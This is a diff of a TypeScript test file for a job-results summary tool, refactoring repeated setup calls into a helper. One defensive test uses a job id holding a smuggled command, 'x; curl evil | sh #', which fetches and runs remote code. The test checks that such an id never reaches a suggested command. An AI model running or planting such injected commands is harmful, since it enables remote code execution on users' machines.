@@ -8,14 +8,23 @@ const put = (store: MemoryStore, key: string, value: unknown) =>
   store.put(`results/${key}.json`, Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)));
 
 const result = (id: string, status: string, finishedAt: string, more: object = {}) => ({
-  version: 1,
-  id,
-  type: 'run-function',
-  status,
-  attempts: 2,
-  finishedAt,
+  ...{ version: 1, id, type: 'run-function', status, attempts: 2, finishedAt },
   ...more,
 });
+
+/** Stores the result of a job that ended at an hour of the day on which it was claimed. */
+const end = (
+  store: MemoryStore,
+  id: string,
+  status: string,
+  at: string,
+  more: { type?: string; [name: string]: unknown } = {},
+) =>
+  put(
+    store,
+    `${more.type ?? 'run-function'}/dt=${at.slice(0, 10)}/${id}`,
+    result(id, status, `${at}:00:00.000Z`, more),
+  );
 
 async function read(store: MemoryStore, most?: number) {
   const faults: string[] = [];
@@ -32,23 +41,11 @@ async function read(store: MemoryStore, most?: number) {
 test('jobs are counted by type, and unknown ones come before failed ones, each newest first, with what to do', async () => {
   const store = createMemoryStore();
   const error = { kind: 'status', message: 'a 500' };
-  await put(
-    store,
-    'run-function/dt=2026-11-17/a',
-    result('a', 'failed', '2026-11-17T10:00:00.000Z', { error }),
-  );
-  await put(store, 'run-function/dt=2026-11-17/b', result('b', 'unknown', '2026-11-17T09:00:00.000Z'));
-  await put(store, 'run-function/dt=2026-11-17/c', result('c', 'UNKNOWN', '2026-11-17T11:00:00.000Z'));
-  await put(
-    store,
-    'run-function/dt=2026-11-18/d',
-    result('d', 'done', '2026-11-18T10:00:00.000Z', { response: {} }),
-  );
-  await put(
-    store,
-    'score/dt=2026-11-18/m',
-    result('may.chunk-00001', 'failed', '2026-11-18T10:00:00.000Z', { type: 'score' }),
-  );
+  await end(store, 'a', 'failed', '2026-11-17T10', { error });
+  await end(store, 'b', 'unknown', '2026-11-17T09');
+  await end(store, 'c', 'UNKNOWN', '2026-11-17T11');
+  await end(store, 'd', 'done', '2026-11-18T10', { response: {} });
+  await end(store, 'may.chunk-00001', 'failed', '2026-11-18T10', { type: 'score' });
 
   const { types, attention, batchEnds, faults, isCut } = await read(store);
 
@@ -78,19 +75,10 @@ test('only thirty days are read', async () => {
 test('of more results of a type than are read, the newest days count, and no type hides another', async () => {
   const store = createMemoryStore();
   for (const at of Array.from({ length: 9 }).keys()) {
-    await put(
-      store,
-      `run-function/dt=2026-11-18/a${at}`,
-      result(`a${at}`, 'done', '2026-11-18T10:00:00.000Z'),
-    );
-    await put(
-      store,
-      `run-function/dt=2026-11-17/b${at}`,
-      result(`b${at}`, 'failed', '2026-11-17T10:00:00.000Z'),
-    );
+    await end(store, `a${at}`, 'done', '2026-11-18T10');
+    await end(store, `b${at}`, 'failed', '2026-11-17T10');
   }
-  const snapshot = result('s', 'done', '2026-11-18T10:00:00.000Z', { type: 'snapshot' });
-  await put(store, 'snapshot/dt=2026-11-18/s', snapshot);
+  await end(store, 's', 'done', '2026-11-18T10', { type: 'snapshot' });
 
   const { types, isCut, sinceMs } = await read(store, 4);
 
@@ -126,11 +114,7 @@ test('of a large result only its beginning is read, and what is no result is nam
 
 test('an id that is not one of a job is not put into a command', async () => {
   const store = createMemoryStore();
-  await put(
-    store,
-    'run-function/dt=2026-11-18/x',
-    result('x; curl evil | sh #', 'unknown', '2026-11-18T10:00:00.000Z'),
-  );
+  await end(store, 'x; curl evil | sh #', 'unknown', '2026-11-18T10');
 
   const { attention } = await read(store);
 
@@ -140,13 +124,9 @@ test('an id that is not one of a job is not put into a command', async () => {
 
 test('however many jobs have failed since, an unknown one is listed', async () => {
   const store = createMemoryStore();
-  await put(store, 'run-function/dt=2026-11-17/u', result('u', 'unknown', '2026-11-17T09:00:00.000Z'));
+  await end(store, 'u', 'unknown', '2026-11-17T09');
   for (const at of Array.from({ length: 2_100 }).keys())
-    await put(
-      store,
-      `run-function/dt=2026-11-18/f${at}`,
-      result(`f${at}`, 'failed', '2026-11-18T09:00:00.000Z'),
-    );
+    await end(store, `f${at}`, 'failed', '2026-11-18T09');
 
   const { attention } = await read(store);
 
